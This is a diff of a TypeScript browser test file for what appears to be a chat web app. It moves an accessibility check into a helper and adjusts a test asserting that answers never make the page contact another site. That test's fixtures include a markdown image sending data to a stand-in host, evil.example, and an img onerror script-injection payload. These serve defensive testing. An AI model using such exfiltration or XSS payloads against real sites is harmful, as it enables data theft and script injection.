@@ -1,11 +1,8 @@
 import assert from 'node:assert/strict'
-import { readFileSync } from 'node:fs'
-import { createRequire } from 'node:module'
 import { test } from 'node:test'
 import { url } from '../support/shared.ts'
+import { barriers } from './accessibility.ts'
 import { answered, ask, openPage } from './page.ts'
-
-const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
 
 test('a question is answered, and both are there after a reload, at an address of their own', async () => {
   await using opened = await openPage()
@@ -123,24 +120,15 @@ for (const [what, options] of [
     await ask(page, 'List two fruits.', { wait: false })
     await page.getByRole('button', { name: 'Stop' }).click()
     await answered(page)
-    const violations = await page.evaluate(async (source) => {
-      // The security policy has no place for a script of ours, but for one that the test itself brings.
-      const run = new Function(`${source}; return axe.run()`)
-      const { violations, passes } = await run()
-      if (passes.length < 10) throw new Error(`only ${passes.length} rules were looked at`)
-      return violations
-        .filter(({ impact }: { impact: string }) => impact === 'serious' || impact === 'critical')
-        .map(({ id, nodes }: { id: string; nodes: { html: string }[] }) => `${id}: ${nodes[0]?.html}`)
-    }, axe)
-    assert.deepEqual(violations, [])
-    const overflow = await page.evaluate(() => document.documentElement.scrollWidth > window.innerWidth)
-    assert.equal(overflow, false)
+    assert.deepEqual(await barriers(page), [])
   })
 }
 
 test('no address of another site is ever asked, even if an answer wants it', async () => {
   await using opened = await openPage()
   const { page, foreign } = opened
+  // Which it says only when it is signed in.
+  await page.getByText('running here').waitFor()
   const hostile = [
     '![x](https://evil.example/leak?d=1)',
     '<img src=x onerror="window.hacked=1">',
